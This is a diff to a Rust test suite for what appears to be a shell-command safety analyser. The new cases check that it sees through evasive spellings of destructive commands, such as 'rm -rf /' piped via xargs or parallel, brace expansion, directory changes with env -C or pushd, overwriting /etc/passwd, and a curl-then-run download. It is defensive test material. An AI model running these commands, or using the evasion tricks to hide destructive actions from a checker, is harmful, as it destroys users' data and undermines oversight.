@@ -152,6 +152,7 @@ fn wrappers_are_looked_through() {
         "nohup cat f",
         "timeout -k 1 5 cat f",
         "nice -n 5 cat f",
+        "nice -5 cat f",
         "setsid cat f",
         "stdbuf -oL cat f",
         "time cat f",
@@ -328,6 +329,37 @@ fn a_file_is_the_same_under_every_spelling() {
         shows(line, "executes network");
     }
     shows("curl -s https://x.example > d/i.sh; sh i.sh", "executes file i.sh");
+}
+
+#[test]
+fn nothing_is_cut_off_silently() {
+    let words = "a ".repeat(100);
+    shows(&format!("echo {words} / | xargs rm -rf"), "removes tree /");
+    shows(&format!("printf '%s\\n' {words} / | xargs -I{{}} rm -rf {{}}"), "removes tree /");
+    shows(&format!("parallel rm -rf ::: {words} /"), "removes tree /");
+    shows("rm -rf {1..1000}", "removes tree …");
+    shows("rm -rf /{e..e..1}tc", "removes tree …");
+    shows("rm -rf {a..c} {1..2}{x,y}", "removes tree 2y");
+    shows("echo \"'/'\" | xargs rm -rf", "removes tree $(…)");
+    shows("echo '\\/' | xargs rm -rf", "removes tree $(…)");
+    shows("printf 'a:/' | xargs -d: rm -rf", "removes tree /");
+    shows("printf 'build\\0/' | xargs -0 rm -rf", "removes tree /");
+    shows("echo 'a b' | xargs -I{} rm -rf {}", "removes tree a b");
+}
+
+#[test]
+fn the_folder_is_followed_or_not_known() {
+    shows("cd /; rm -rf ~+/etc", "removes tree //etc");
+    shows("HOME=/etc; echo x > ~/passwd", "writes /etc/passwd");
+    shows("cd /; pushd /tmp/b; popd; rm -rf etc", "removes tree …/etc");
+    shows("env -C / rm -rf etc", "removes tree /etc");
+    shows("env --chdir=/etc tee passwd; rm -rf b", "writes /etc/passwd");
+    shows("env --chdir=/etc tee passwd; rm -rf b", "removes tree b");
+    shows("CDPATH=/; cd etc; rm -rf x", "removes tree …/x");
+    shows("git -C / clean -fdx", "removes tree /");
+    shows("cd /; git clean -fdx", "removes tree /");
+    shows("git clean -fdx", "removes tree untracked files");
+    shows("cd build; rm -rf x", "removes tree build/x");
 }
 
 mod properties {
